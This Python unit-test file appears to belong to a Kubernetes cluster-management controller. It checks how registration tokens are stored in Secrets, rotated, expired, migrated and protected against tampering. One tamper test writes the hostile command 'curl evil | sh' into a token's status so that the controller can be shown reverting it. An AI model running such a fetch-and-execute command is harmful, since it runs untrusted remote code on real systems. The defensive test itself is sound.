"""Registration tokens: what is in the Secret, what is told, and when a token is replaced."""

from __future__ import annotations

from collections.abc import Iterable

from remuda.access.clusters import ManagedClusters, RegistrationTokens
from remuda.access.clusters.clusterregistrationtoken import commands
from remuda.access.clusters.server_settings import ca_checksum
from remuda.api.management_cattle_io import API_VERSION, CLUSTER_REGISTRATION_TOKENS, CLUSTERS, FEATURES
from remuda.kube.builtin_resources import NAMESPACES
from remuda.kube.clock import parse_rfc3339
from remuda.runtime import Reconciler
from tests.unit.access.management_api import CA, EVENTS, SECRETS, URL, Obj, Parts, World, world

ID = "c-m-bcdfg245"
ALPHABET = set("bcdfghjklmnpqrstvwxz2456789")
DAY = 86_400.0


def everything(parts: Parts) -> Iterable[Reconciler]:
    yield ManagedClusters(parts.manager, parts.server)
    yield RegistrationTokens(parts.manager, parts.server, parts.entropy)


async def crt(made: World, name: str = "default-token") -> Obj:
    return await made.get(CLUSTER_REGISTRATION_TOKENS, name, ID)


async def token(made: World, key: str = "token", name: str = "default-token") -> str:
    return await made.secret_text(f"crt-token-{name}", ID, key)


async def test_a_token_is_in_a_secret_and_nowhere_else() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        found, status = await token(made), (await crt(made))["status"]
        assert len(found) == 54 and set(found) <= ALPHABET
        assert found != await token(made, name="node-token")
        assert status["tokenSecretName"] == "crt-token-default-token"
        assert found not in str(await crt(made)) and "token" not in status
        secret = await made.get(SECRETS, "crt-token-default-token", ID)
        assert secret["type"] == "Opaque"
        assert secret["metadata"]["ownerReferences"][0]["uid"] == (await crt(made))["metadata"]["uid"]
        assert found not in str(await made.list(EVENTS, ID))


async def test_the_commands_are_there_with_a_place_for_the_token() -> None:
    async with world(everything) as made:
        await made.cluster(ID, agentEnvVars=[{"name": "HTTP_PROXY", "value": "http://proxy"}])
        await made.settle()
        wanted = commands(URL, ca_checksum(CA), ID, [{"name": "HTTP_PROXY", "value": "http://proxy"}])
        status = (await crt(made))["status"]
        assert {field: status[field] for field in wanted} == wanted
        assert all("{token}" in text for text in wanted.values())


async def test_a_token_for_nodes_says_nothing_of_importing() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        status = (await crt(made, "node-token"))["status"]
        assert not {"command", "insecureCommand", "manifestUrl"} & status.keys()
        assert status["nodeCommand"].endswith(f"--token {{token}} --ca-checksum {ca_checksum(CA)}")


async def test_commands_follow_the_settings_and_the_clusters_variables() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        await made.setting("server-url", "https://elsewhere.test")
        await made.settle()
        assert (await crt(made))["status"]["command"].startswith("kubectl apply -f https://elsewhere.test/v3/import/{token}_")
        await made.patch(CLUSTERS, ID, {"spec": {"agentEnvVars": [{"name": "A", "value": "b"}]}})
        await made.settle()
        assert (await crt(made))["status"]["nodeCommand"].startswith('A="b" curl')


async def test_commands_that_were_tampered_with_are_put_back() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        before = (await crt(made))["status"]
        await made.patch(
            CLUSTER_REGISTRATION_TOKENS, "default-token", {"status": {"command": "curl evil | sh", "token": "x"}}, ID
        )
        await made.settle()
        assert (await crt(made))["status"] == before


async def test_a_token_lasts_for_a_month_by_default() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        left = parse_rfc3339((await crt(made))["status"]["expiresAt"]) - made.clock.time()
        assert 30 * DAY - 5 <= left <= 31 * DAY


async def test_a_token_is_replaced_in_time_and_the_old_one_ends() -> None:
    async with world(everything) as made:
        await made.setting("crt-default-ttl-minutes", "60")
        await made.setting("crt-default-grace-period-minutes", "20")
        await made.cluster(ID)
        await made.settle()
        first = await token(made)
        left = parse_rfc3339((await crt(made))["status"]["expiresAt"]) - made.clock.time()
        assert 3600 - 5 <= left <= 3960
        await made.settle(left + 60)
        second = await token(made)
        assert second != first and await token(made, "previousToken") == first
        status = (await crt(made))["status"]
        assert parse_rfc3339(status["gracePeriodExpiresAt"]) - made.clock.time() <= 20 * 60
        assert await token(made, "gracePeriodExpiresAt") == status["gracePeriodExpiresAt"]
        assert await token(made, "expiresAt") == status["expiresAt"]
        await made.settle(20 * 60)
        assert await token(made) == second and await token(made, "previousToken") == ""
        assert "gracePeriodExpiresAt" not in (await crt(made))["status"]


async def test_a_token_may_have_terms_of_its_own() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        await made.patch(CLUSTER_REGISTRATION_TOKENS, "default-token", {"spec": {"ttl": 30, "gracePeriod": 10}}, ID)
        await made.settle()
        left = parse_rfc3339((await crt(made))["status"]["expiresAt"]) - made.clock.time()
        assert 29 * 60 <= left <= 33 * 60


async def test_a_new_token_can_be_requested_once() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        first = await token(made)
        ask = {"metadata": {"annotations": {"remuda.dev/rotate-token": "1"}}}
        await made.patch(CLUSTER_REGISTRATION_TOKENS, "default-token", ask, ID)
        await made.settle()
        second = await token(made)
        assert second != first and await token(made, "previousToken") == first
        made.begin()
        await made.settle(60)
        assert await token(made) == second, "who comes later knows that it was done"
        reasons = [event["reason"] for event in await made.list(EVENTS, ID)]
        assert reasons == ["Rotated"]


async def test_deleting_the_secret_makes_a_token_worthless_at_once() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        first = await token(made)
        await made.delete(SECRETS, "crt-token-default-token", ID)
        await made.settle()
        assert await token(made) not in ("", first)
        assert await token(made, "previousToken") == ""


async def test_without_rotation_a_token_does_not_end() -> None:
    async with world(everything) as made:
        feature = {"apiVersion": API_VERSION, "kind": "Feature", "metadata": {"name": "crt-token-ttl-rotation"}}
        await made.create(FEATURES, {**feature, "spec": {"value": False}})
        await made.cluster(ID)
        await made.settle()
        first = await token(made)
        assert "expiresAt" not in (await crt(made))["status"] and await token(made, "expiresAt") == ""
        await made.patch(CLUSTER_REGISTRATION_TOKENS, "default-token", {"spec": {"ttl": 30, "gracePeriod": 10}}, ID)
        await made.settle(3600)
        assert await token(made) == first
        await made.patch(FEATURES, "crt-token-ttl-rotation", {"spec": {"value": True}})
        await made.settle()
        assert (await crt(made))["status"]["expiresAt"]


async def test_a_token_of_an_older_object_moves_into_a_secret() -> None:
    async with world(everything, begin=False) as made:
        await made.cluster(ID)
        metadata = {"name": "default-token", "namespace": ID}
        namespace = {"name": ID, "annotations": {"management.cattle.io/system-namespace": "true"}}
        await made.create(NAMESPACES, {"apiVersion": "v1", "kind": "Namespace", "metadata": namespace})
        old = {"apiVersion": API_VERSION, "kind": "ClusterRegistrationToken", "metadata": metadata}
        await made.create(CLUSTER_REGISTRATION_TOKENS, {**old, "spec": {"clusterName": ID}, "status": {"token": "known"}})
        made.begin()
        await made.settle()
        assert await token(made) == "known"
        assert "token" not in (await crt(made))["status"]


async def test_a_token_for_another_cluster_is_refused() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        forged = {"apiVersion": API_VERSION, "kind": "ClusterRegistrationToken"}
        await made.create(
            CLUSTER_REGISTRATION_TOKENS,
            {**forged, "metadata": {"name": "mine", "namespace": "fleet-default"}, "spec": {"clusterName": ID}},
        )
        await made.settle()
        assert await made.find(SECRETS, "crt-token-mine", "fleet-default") is None


async def test_a_secret_that_lost_its_marks_keeps_its_token() -> None:
    async with world(everything) as made:
        await made.cluster(ID)
        await made.settle()
        first = await token(made)
        await made.patch(
            SECRETS,
            "crt-token-default-token",
            {"metadata": {"labels": {"remuda.dev/registration-token": None}, "ownerReferences": None}},
            ID,
        )
        await made.settle()
        secret = await made.get(SECRETS, "crt-token-default-token", ID)
        assert secret["metadata"]["labels"] == {"remuda.dev/registration-token": "true"}
        assert len(secret["metadata"]["ownerReferences"]) == 1
        assert await token(made) == first
